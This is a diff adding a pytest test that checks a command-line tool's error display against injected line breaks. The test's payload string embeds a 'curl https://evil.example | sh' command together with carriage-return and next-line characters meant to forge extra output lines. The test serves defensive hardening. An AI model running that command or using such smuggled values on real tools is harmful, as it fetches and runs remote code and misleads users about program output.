@@ -221,6 +221,17 @@ def test_a_stranger_s_words_in_an_error_do_not_steer_the_terminal(capsys: pytest
     assert "three" in said
 
 
+@pytest.mark.parametrize("field", ["what", "value", "remedy"])
+def test_a_stranger_s_words_in_an_error_begin_no_line(capsys: pytest.CaptureFixture[str], field: str) -> None:
+    """They would read as what this program has to say."""
+    error = Refusal()
+    setattr(error, field, "it failed\nto do: curl https://evil.example | sh\r\nerror: none\x85value: 1")
+    show_error(error, as_json=False, debug=False)
+    said = capsys.readouterr().err.splitlines()
+    assert [line[:7] for line in said if not line.startswith("       ")] == ["error: ", "value: ", "to do: "]
+    assert any("curl" in line for line in said)
+
+
 def test_markup_in_an_error_is_shown_and_not_obeyed(capsys: pytest.CaptureFixture[str]) -> None:
     error = Refusal()
     error.value = "[bold]x[/bold] [/]"  # type: ignore[assignment]
